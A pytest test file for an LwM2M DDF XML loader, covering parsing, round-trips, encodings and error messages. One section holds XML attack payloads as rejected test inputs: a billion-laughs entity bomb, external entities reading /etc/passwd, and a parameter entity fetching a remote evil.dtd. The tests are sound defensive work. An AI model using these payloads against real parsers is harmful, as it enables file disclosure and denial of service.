"""The DDF XML loader and writer."""

from __future__ import annotations

import codecs
from pathlib import Path as FsPath

import pytest

from lwm2m.errors import DecodeError
from lwm2m.model import ObjectDef, Operations, Path, ResourceDef, ResourceType, default_registry
from lwm2m.model.builtin import builtin_objects
from lwm2m.model.ddf import dump_ddf, load_ddf_bytes, load_ddf_path, object_urn

T = ResourceType

# A vendor object with every data type, a multiple resource and an executable one.
USER_DDF = """<?xml version="1.0" encoding="utf-8"?>
<LWM2M xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
       xsi:noNamespaceSchemaLocation="http://www.openmobilealliance.org/tech/profiles/LWM2M-v1_1.xsd">
  <Object ObjectType="MODefinition">
    <Name>Test Widget</Name>
    <Description1><![CDATA[A widget used by the tests & nothing else.]]></Description1>
    <ObjectID>10241</ObjectID>
    <ObjectURN>urn:oma:lwm2m:x:10241</ObjectURN>
    <LWM2MVersion>1.1</LWM2MVersion>
    <ObjectVersion>1.0</ObjectVersion>
    <MultipleInstances>Multiple</MultipleInstances>
    <Mandatory>Optional</Mandatory>
    <Resources>
      <Item ID="0"><Name>Label</Name><Operations>RW</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Mandatory</Mandatory>
        <Type>String</Type><RangeEnumeration>0..32</RangeEnumeration><Units></Units>
        <Description>Free text</Description></Item>
      <Item ID="1"><Name>Offset</Name><Operations>RW</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Integer</Type><RangeEnumeration>-100..100</RangeEnumeration><Units>mm</Units>
        <Description></Description></Item>
      <Item ID="2"><Name>Count</Name><Operations>R</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Unsigned Integer</Type><RangeEnumeration/><Units/><Description/></Item>
      <Item ID="3"><Name>Level</Name><Operations>R</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Float</Type><RangeEnumeration>0..1</RangeEnumeration><Units>/100</Units>
        <Description/></Item>
      <Item ID="4"><Name>Enabled</Name><Operations>RW</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Boolean</Type></Item>
      <Item ID="5"><Name>Blob</Name><Operations>W</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Opaque</Type></Item>
      <Item ID="6"><Name>Seen</Name><Operations>R</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Time</Type></Item>
      <Item ID="7"><Name>Peer</Name><Operations>RW</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Objlnk</Type></Item>
      <Item ID="8"><Name>Links</Name><Operations>R</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Corelnk</Type></Item>
      <Item ID="9"><Name>Samples</Name><Operations>R</Operations>
        <MultipleInstances>Multiple</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Float</Type><Units>Cel</Units></Item>
      <Item ID="10"><Name>Poke</Name><Operations>E</Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type></Type></Item>
      <Item ID="11"><Name>Secret</Name><Operations></Operations>
        <MultipleInstances>Single</MultipleInstances><Mandatory>Optional</Mandatory>
        <Type>Opaque</Type></Item>
    </Resources>
    <Description2></Description2>
  </Object>
</LWM2M>
"""

EXPECTED_TYPES = {
    0: T.STRING,
    1: T.INTEGER,
    2: T.UNSIGNED_INTEGER,
    3: T.FLOAT,
    4: T.BOOLEAN,
    5: T.OPAQUE,
    6: T.TIME,
    7: T.OBJLNK,
    8: T.CORELNK,
    9: T.FLOAT,
    10: T.NONE,
    11: T.OPAQUE,
}


def test_user_ddf_loads() -> None:
    [obj] = load_ddf_bytes(USER_DDF.encode(), "widget.xml")
    assert (obj.id, obj.name, obj.urn) == (10241, "Test Widget", "urn:oma:lwm2m:x:10241")
    assert (obj.version, obj.lwm2m_version, obj.multiple, obj.mandatory) == (
        "1.0",
        "1.1",
        True,
        False,
    )
    assert obj.description == "A widget used by the tests & nothing else."
    assert {rid: r.type for rid, r in obj.resources.items()} == EXPECTED_TYPES
    label = obj.resources[0]
    assert label == ResourceDef(
        0, "Label", T.STRING, Operations.RW, False, True, "0..32", "", "Free text"
    )
    assert obj.resources[1].units == "mm"
    assert obj.resources[1].check(-100) == -100
    assert obj.resources[9].multiple
    assert obj.resources[10].operations == Operations.E
    assert obj.resources[11].operations == Operations.NONE
    assert obj.resources[5].operations == Operations.W


def test_user_ddf_round_trips() -> None:
    objs = load_ddf_bytes(USER_DDF.encode(), "widget.xml")
    assert load_ddf_bytes(dump_ddf(objs[0]), "again.xml") == objs


def test_registry_load_ddf_makes_user_object_available(tmp_path: FsPath) -> None:
    file = tmp_path / "10241.xml"
    file.write_text(USER_DDF, encoding="utf-8")
    reg = default_registry().copy()
    added = reg.load_ddf(file)
    assert [o.id for o in added] == [10241]
    res = reg.resource(Path(10241, 0, 9, 3))
    assert res is not None and res.name == "Samples" and res.multiple
    assert 3 in reg  # the built-ins stay


@pytest.mark.parametrize("obj", builtin_objects(), ids=lambda o: f"{o.id}-{o.name}")
def test_builtin_round_trip(obj: ObjectDef) -> None:
    data = dump_ddf(obj)
    assert data.startswith(b"<?xml")
    assert load_ddf_bytes(data, f"{obj.id}.xml") == [obj]


def test_dump_escapes_markup() -> None:
    obj = ObjectDef(
        20000,
        "A <b> & 'c'",
        {1: ResourceDef(1, "x<y", T.STRING, description='"quoted" & <tagged>', units="<>")},
        description="]]> end of CDATA",
        urn="urn:oma:lwm2m:x:20000",
    )
    assert load_ddf_bytes(dump_ddf(obj)) == [obj]


def test_dump_fills_missing_urn() -> None:
    obj = ObjectDef(3400, "Thing", {}, version="2.0")
    [back] = load_ddf_bytes(dump_ddf(obj))
    assert back.urn == "urn:oma:lwm2m:ext:3400:2.0"


@pytest.mark.parametrize(
    ("oid", "version", "urn"),
    [
        (3, "1.0", "urn:oma:lwm2m:oma:3"),
        (3, "", "urn:oma:lwm2m:oma:3"),
        (3, "1.1", "urn:oma:lwm2m:oma:3:1.1"),
        (1023, "1.0", "urn:oma:lwm2m:oma:1023"),
        (3303, "1.1", "urn:oma:lwm2m:ext:3303:1.1"),
        (10240, "1.0", "urn:oma:lwm2m:ext:10240"),
        (10241, "1.0", "urn:oma:lwm2m:x:10241"),
        (32769, "2.0", "urn:oma:lwm2m:x:32769:2.0"),
    ],
)
def test_object_urn(oid: int, version: str, urn: str) -> None:
    assert object_urn(oid, version) == urn


def test_missing_urn_and_versions_get_defaults() -> None:
    doc = _doc(header="<Name>N</Name><ObjectID>3303</ObjectID>")
    [obj] = load_ddf_bytes(doc)
    assert (obj.urn, obj.version, obj.lwm2m_version) == ("urn:oma:lwm2m:ext:3303", "1.0", "1.0")


# --- namespaces and encodings ------------------------------------------------


def test_default_namespace() -> None:
    doc = USER_DDF.replace("<LWM2M ", '<LWM2M xmlns="urn:example:lwm2m" ', 1)
    assert load_ddf_bytes(doc.encode()) == load_ddf_bytes(USER_DDF.encode())


def test_prefixed_namespace() -> None:
    body = USER_DDF.split("?>", 1)[1]
    prefixed = body.replace("</", "\x00").replace("<", "<lw:").replace("\x00", "</lw:")
    prefixed = prefixed.replace("<lw:![CDATA[", "<![CDATA[")
    prefixed = prefixed.replace("<lw:LWM2M ", '<lw:LWM2M xmlns:lw="urn:example:lwm2m" ', 1)
    assert "<lw:Item" in prefixed
    assert load_ddf_bytes(prefixed.encode()) == load_ddf_bytes(USER_DDF.encode())


def test_undeclared_prefix_is_a_decode_error() -> None:
    doc = USER_DDF.replace("<Name>Test Widget</Name>", "<x:Name>Test Widget</x:Name>")
    with pytest.raises(DecodeError, match=r"widget\.xml: not well-formed XML: unbound prefix"):
        load_ddf_bytes(doc.encode(), "widget.xml")


@pytest.mark.parametrize(
    "data",
    [
        codecs.BOM_UTF8 + USER_DDF.encode("utf-8"),
        USER_DDF.replace('encoding="utf-8"', 'encoding="UTF-16"').encode("utf-16"),
        USER_DDF.replace('encoding="utf-8"', 'encoding="UTF-16"').encode("utf-16-le"),
        USER_DDF.replace('encoding="utf-8"', 'encoding="UTF-16"').encode("utf-16-be"),
        USER_DDF.replace('encoding="utf-8"', "encoding='ISO-8859-1'").encode("latin-1"),
        USER_DDF.split("?>", 1)[1].encode("utf-8"),
    ],
    ids=["utf8-bom", "utf16-bom", "utf16le", "utf16be", "latin1", "no-declaration"],
)
def test_encodings(data: bytes) -> None:
    assert load_ddf_bytes(data) == load_ddf_bytes(USER_DDF.encode())


def test_latin1_text_is_decoded() -> None:
    doc = USER_DDF.replace('encoding="utf-8"', 'encoding="ISO-8859-1"')
    doc = doc.replace("Test Widget", "Widget \u00e9t\u00e9")
    [obj] = load_ddf_bytes(doc.encode("latin-1"))
    assert obj.name == "Widget \u00e9t\u00e9"


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b'<?xml version="1.0" encoding="nope-42"?><LWM2M/>', "unknown encoding 'nope-42'"),
        (b'<?xml version="1.0" encoding="rot13"?><LWM2M/>', "cannot decode as 'rot13'"),
        (b"<LWM2M>\xff\xfe\xfa</LWM2M>", "invalid utf-8 text"),
    ],
)
def test_encoding_errors(data: bytes, fragment: str) -> None:
    with pytest.raises(DecodeError, match=r"^f\.xml: ") as info:
        load_ddf_bytes(data, "f.xml")
    assert fragment in str(info.value)


# --- entity expansion protection ---------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<LWM2M><Object><Name>&lol3;</Name></Object></LWM2M>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE LWM2M SYSTEM "file:///etc/passwd">
<LWM2M/>
"""


INTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY name "Widget">]>
<LWM2M><Object><Name>&name;</Name></Object></LWM2M>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<LWM2M/>
"""

EXTERNAL_GENERAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE LWM2M [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<LWM2M><Object><Name>&secret;</Name></Object></LWM2M>
"""

PLAIN_DOCTYPE = '<?xml version="1.0"?>\n<!DOCTYPE LWM2M>\n' + USER_DDF.split("?>", 1)[1]

EVIL_DOCUMENTS = {
    "billion-laughs": BILLION_LAUGHS,
    "external-dtd": EXTERNAL_ENTITY,
    "internal-entity": INTERNAL_ENTITY,
    "parameter-entity": PARAMETER_ENTITY,
    "external-entity": EXTERNAL_GENERAL_ENTITY,
    "plain-doctype": PLAIN_DOCTYPE,
}

# (codec, byte order mark written by hand or None, label of the XML declaration)
ENCODINGS = {
    "utf-8": ("utf-8", None, "UTF-8"),
    "utf-8-bom": ("utf-8", codecs.BOM_UTF8, "UTF-8"),
    "utf-16": ("utf-16", None, "UTF-16"),  # the codec writes a BOM
    "utf-16le": ("utf-16-le", None, "UTF-16"),
    "utf-16be": ("utf-16-be", None, "UTF-16"),
    "utf-32": ("utf-32", None, "UTF-32"),  # the codec writes a BOM
    "utf-32le": ("utf-32-le", None, "UTF-32"),
    "utf-32be": ("utf-32-be", None, "UTF-32"),
    "utf-32le-bom": ("utf-32-le", codecs.BOM_UTF32_LE, "UTF-32"),
    "utf-32be-bom": ("utf-32-be", codecs.BOM_UTF32_BE, "UTF-32"),
}


def _encoded(doc: str, encoding: str) -> bytes:
    codec, bom, label = ENCODINGS[encoding]
    doc = doc.replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{label}"?>')
    return (bom or b"") + doc.encode(codec)


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("doc", sorted(EVIL_DOCUMENTS))
def test_doctype_and_entities_are_refused_in_every_encoding(doc: str, encoding: str) -> None:
    with pytest.raises(DecodeError, match=r"^evil\.xml: DOCTYPE declarations are not allowed"):
        load_ddf_bytes(_encoded(EVIL_DOCUMENTS[doc], encoding), "evil.xml")


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
def test_every_encoding_of_a_good_document_loads(encoding: str) -> None:
    doc = USER_DDF.replace('<?xml version="1.0" encoding="utf-8"?>', '<?xml version="1.0"?>')
    assert load_ddf_bytes(_encoded(doc, encoding)) == load_ddf_bytes(USER_DDF.encode())


def test_the_refusal_names_the_line_and_column() -> None:
    with pytest.raises(DecodeError, match=r"\(line 2, column \d+\)$"):
        load_ddf_bytes(BILLION_LAUGHS.encode(), "evil.xml")


@pytest.mark.parametrize(
    "doc",
    [
        "<!entity x 'y'><LWM2M/>",  # not a declaration outside a DTD: a syntax error
        "<! DOCTYPE LWM2M><LWM2M/>",
        "<LWM2M><Object><Name>&undeclared;</Name></Object></LWM2M>",
    ],
)
def test_declaration_look_alikes_and_undeclared_entities_are_not_well_formed(doc: str) -> None:
    with pytest.raises(DecodeError, match=r"^evil\.xml: not well-formed XML: "):
        load_ddf_bytes(doc.encode(), "evil.xml")


def test_predefined_entities_and_character_references_are_kept() -> None:
    doc = USER_DDF.replace("<Name>Test Widget</Name>", "<Name>A &amp; B &#x3c;&#233;&gt;</Name>")
    [obj] = load_ddf_bytes(doc.encode())
    assert obj.name == "A & B <\u00e9>"


# --- malformed documents -----------------------------------------------------

GOOD_ITEM = (
    "<Name>Value</Name><Operations>R</Operations><MultipleInstances>Single</MultipleInstances>"
    "<Mandatory>Optional</Mandatory><Type>Integer</Type>"
)
GOOD_HEADER = (
    "<Name>Thing</Name><ObjectID>10241</ObjectID><ObjectURN>urn:oma:lwm2m:x:10241</ObjectURN>"
    "<LWM2MVersion>1.1</LWM2MVersion><ObjectVersion>1.0</ObjectVersion>"
)
GOOD_FLAGS = "<MultipleInstances>Multiple</MultipleInstances><Mandatory>Optional</Mandatory>"


def _doc(
    item: str = GOOD_ITEM,
    item_attrs: str = 'ID="5"',
    header: str = GOOD_HEADER,
    flags: str = GOOD_FLAGS,
    object_attrs: str = 'ObjectType="MODefinition"',
) -> bytes:
    return (
        f"<LWM2M><Object {object_attrs}>{header}{flags}"
        f"<Resources><Item {item_attrs}>{item}</Item></Resources></Object></LWM2M>"
    ).encode()


def test_template_is_valid() -> None:
    [obj] = load_ddf_bytes(_doc())
    assert obj.resources[5].type is T.INTEGER


ITEM = "Object[0]/Resources/Item[ID=5]"

MALFORMED = [
    # (document, element path, message fragment)
    (_doc(header="<Name>Thing</Name>"), "Object[0]", "missing <ObjectID>"),
    (_doc(header="<Name>T</Name><ObjectID>abc</ObjectID>"), "Object[0]/ObjectID", "not a decimal"),
    (_doc(header="<Name>T</Name><ObjectID>-1</ObjectID>"), "Object[0]/ObjectID", "not a decimal"),
    (_doc(header="<Name>T</Name><ObjectID>1.5</ObjectID>"), "Object[0]/ObjectID", "not a decimal"),
    (_doc(header="<Name>T</Name><ObjectID>65535</ObjectID>"), "Object[0]/ObjectID", "out of range"),
    (
        _doc(header="<Name>T</Name><ObjectID>123456</ObjectID>"),
        "Object[0]/ObjectID",
        "not a decimal",
    ),
    (_doc(header="<Name>T</Name><ObjectID></ObjectID>"), "Object[0]/ObjectID", "not a decimal"),
    (_doc(header="<ObjectID>7</ObjectID>"), "Object[0]", "missing <Name>"),
    (_doc(header="<Name> </Name><ObjectID>7</ObjectID>"), "Object[0]/Name", "empty name"),
    (
        _doc(header="<Name>A</Name><Name>B</Name><ObjectID>7</ObjectID>"),
        "Object[0]/Name",
        "element appears 2 times",
    ),
    (
        _doc(header="<Name>A<b/></Name><ObjectID>7</ObjectID>"),
        "Object[0]/Name",
        "expected text, found child elements",
    ),
    (
        _doc(header=GOOD_HEADER.replace("<ObjectVersion>1.0", "<ObjectVersion>one")),
        "Object[0]/ObjectVersion",
        "invalid version 'one'",
    ),
    (
        _doc(header=GOOD_HEADER.replace("<LWM2MVersion>1.1", "<LWM2MVersion>1.x")),
        "Object[0]/LWM2MVersion",
        "invalid version '1.x'",
    ),
    (_doc(flags="<Mandatory>Optional</Mandatory>"), "Object[0]", "missing <MultipleInstances>"),
    (
        _doc(flags=GOOD_FLAGS.replace(">Multiple<", ">Many<")),
        "Object[0]/MultipleInstances",
        "expected Multiple or Single, got 'Many'",
    ),
    (
        _doc(flags=GOOD_FLAGS.replace(">Optional<", ">Maybe<")),
        "Object[0]/Mandatory",
        "expected Mandatory or Optional, got 'Maybe'",
    ),
    (_doc(object_attrs='ObjectType="Other"'), "Object[0]", "ObjectType must be MODefinition"),
    (
        b"<LWM2M><Object>" + GOOD_HEADER.encode() + GOOD_FLAGS.encode() + b"</Object></LWM2M>",
        "Object[0]",
        "missing <Resources>",
    ),
    (_doc(item_attrs=""), "Object[0]/Resources/Item[0]", "missing ID attribute"),
    (_doc(item_attrs='ID="x"'), "Object[0]/Resources/Item[0]", "resource ID 'x' is not a decimal"),
    (
        _doc(item_attrs='ID="65535"'),
        "Object[0]/Resources/Item[0]",
        "resource ID 65535 out of range",
    ),
    (_doc(item_attrs='ID=""'), "Object[0]/Resources/Item[0]", "not a decimal"),
    (_doc(item=GOOD_ITEM.replace(">Integer<", ">Strng<")), f"{ITEM}/Type", "unknown type 'Strng'"),
    (_doc(item=GOOD_ITEM.replace("<Type>Integer</Type>", "")), ITEM, "missing <Type>"),
    (_doc(item=GOOD_ITEM.replace(">R<", ">RX<")), f"{ITEM}/Operations", "unknown operations 'RX'"),
    (_doc(item=GOOD_ITEM.replace("<Operations>R</Operations>", "")), ITEM, "missing <Operations>"),
    (
        _doc(item=GOOD_ITEM.replace(">R<", ">E<")),
        f"{ITEM}/Type",
        "executable resource must have no type",
    ),
    (
        _doc(item=GOOD_ITEM.replace(">Integer<", "><")),
        f"{ITEM}/Type",
        "only executable resources may have no type",
    ),
    (_doc(item=GOOD_ITEM.replace(">Value<", "><")), f"{ITEM}/Name", "empty name"),
    (
        _doc(item=GOOD_ITEM.replace(">Single<", ">Multi<")),
        f"{ITEM}/MultipleInstances",
        "got 'Multi'",
    ),
    (_doc(item=GOOD_ITEM.replace(">Optional<", ">no<")), f"{ITEM}/Mandatory", "got 'no'"),
    (
        _doc(item=GOOD_ITEM + "<Units>a</Units><Units>b</Units>"),
        f"{ITEM}/Units",
        "element appears 2 times",
    ),
]


@pytest.mark.parametrize(("data", "where", "fragment"), MALFORMED)
def test_malformed_ddf(data: bytes, where: str, fragment: str) -> None:
    with pytest.raises(DecodeError) as info:
        load_ddf_bytes(data, "objects/foo.xml")
    message = str(info.value)
    assert message.startswith(f"objects/foo.xml: {where}: "), message
    assert fragment in message, message


def test_error_message_format_from_the_docs() -> None:
    with pytest.raises(DecodeError) as info:
        load_ddf_bytes(_doc(item=GOOD_ITEM.replace(">Integer<", ">Strng<")), "objects/foo.xml")
    assert str(info.value) == (
        "objects/foo.xml: Object[0]/Resources/Item[ID=5]/Type: unknown type 'Strng'"
    )


def test_duplicate_resource_id() -> None:
    data = _doc().replace(
        b"</Resources>", b'<Item ID="5">' + GOOD_ITEM.encode() + b"</Item></Resources>"
    )
    with pytest.raises(
        DecodeError, match=r"^f.xml: Object\[0\]/Resources/Item\[ID=5\]: duplicate resource id 5$"
    ):
        load_ddf_bytes(data, "f.xml")


def test_duplicate_object_in_one_file() -> None:
    one = _doc().decode()
    obj = one[len("<LWM2M>") : -len("</LWM2M>")]
    data = f"<LWM2M>{obj}{obj}</LWM2M>".encode()
    with pytest.raises(
        DecodeError, match=r"^f.xml: Object\[1\]/ObjectID: object 10241 defined twice"
    ):
        load_ddf_bytes(data, "f.xml")


def test_several_objects_in_one_file() -> None:
    one = _doc().decode()
    obj = one[len("<LWM2M>") : -len("</LWM2M>")]
    other = obj.replace("10241", "10242")
    objs = load_ddf_bytes(f"<LWM2M>{obj}<!-- note -->{other}</LWM2M>".encode())
    assert [o.id for o in objs] == [10241, 10242]
    assert objs[1].urn == "urn:oma:lwm2m:x:10242"


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"", "not well-formed XML"),
        (b"<LWM2M>", "not well-formed XML"),
        (b"<LWM2M></LWM2m>", "not well-formed XML"),
        (b"not xml at all", "not well-formed XML"),
        (b"<Object/>", "Object: root element must be <LWM2M>"),
        (b"<LWM2M/>", "LWM2M: no <Object> element"),
        (b"<LWM2M><Thing/></LWM2M>", "LWM2M: no <Object> element"),
    ],
)
def test_document_level_errors(data: bytes, fragment: str) -> None:
    with pytest.raises(DecodeError, match=r"^bad\.xml: ") as info:
        load_ddf_bytes(data, "bad.xml")
    assert fragment in str(info.value)


def test_unknown_elements_are_ignored() -> None:
    data = _doc(item=GOOD_ITEM + "<Vendor>x</Vendor>", header=GOOD_HEADER + "<Extra><a/></Extra>")
    [obj] = load_ddf_bytes(data)
    assert list(obj.resources) == [5]


def test_non_bytes_input() -> None:
    with pytest.raises(DecodeError, match="must be bytes"):
        load_ddf_bytes("<LWM2M/>", "s.xml")  # type: ignore[arg-type]


# --- files and directories ---------------------------------------------------


def test_load_file_names_the_file_in_errors(tmp_path: FsPath) -> None:
    bad = tmp_path / "bad.xml"
    bad.write_bytes(_doc(item=GOOD_ITEM.replace(">Integer<", ">Strng<")))
    with pytest.raises(DecodeError, match=rf"^{bad}: Object\[0\]/Resources/Item\[ID=5\]/Type"):
        load_ddf_path(bad)


def test_load_directory_sorted(tmp_path: FsPath) -> None:
    (tmp_path / "b.xml").write_bytes(_doc(header=GOOD_HEADER.replace("10241", "10300")))
    (tmp_path / "a.XML").write_bytes(_doc(header=GOOD_HEADER.replace("10241", "10400")))
    (tmp_path / "c.xml").write_bytes(_doc())
    (tmp_path / "notes.txt").write_text("not a definition")
    (tmp_path / "sub.xml").mkdir()  # a directory named like a file is skipped
    objs = load_ddf_path(tmp_path)
    assert [o.id for o in objs] == [10400, 10300, 10241]


def test_load_directory_of_builtins(tmp_path: FsPath) -> None:
    for obj in builtin_objects():
        (tmp_path / f"{obj.id}.xml").write_bytes(dump_ddf(obj))
    loaded = {o.id: o for o in load_ddf_path(tmp_path)}
    assert loaded == {o.id: o for o in builtin_objects()}


def test_load_directory_duplicate_across_files(tmp_path: FsPath) -> None:
    (tmp_path / "a.xml").write_bytes(_doc())
    (tmp_path / "b.xml").write_bytes(_doc())
    with pytest.raises(DecodeError, match=r"b.xml: object 10241 is already defined in .*a.xml"):
        load_ddf_path(tmp_path)


def test_load_directory_stops_at_first_bad_file(tmp_path: FsPath) -> None:
    (tmp_path / "a.xml").write_bytes(_doc())
    (tmp_path / "b.xml").write_bytes(b"<LWM2M>")
    with pytest.raises(DecodeError, match=r"b.xml: not well-formed XML"):
        load_ddf_path(tmp_path)


def test_empty_directory(tmp_path: FsPath) -> None:
    assert load_ddf_path(tmp_path) == []


def test_missing_file_is_an_os_error(tmp_path: FsPath) -> None:
    with pytest.raises(FileNotFoundError):
        load_ddf_path(tmp_path / "absent.xml")
